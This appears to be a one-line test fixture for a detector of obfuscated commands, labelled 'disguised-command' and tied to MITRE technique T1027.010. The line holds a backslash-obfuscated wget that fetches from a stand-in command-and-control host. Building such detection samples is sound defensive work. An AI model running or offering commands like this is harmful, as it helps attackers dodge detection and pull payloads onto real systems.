# expect: disguised-command | source: T1027.010
w\ge\t -q https://c2.example.invalid/i
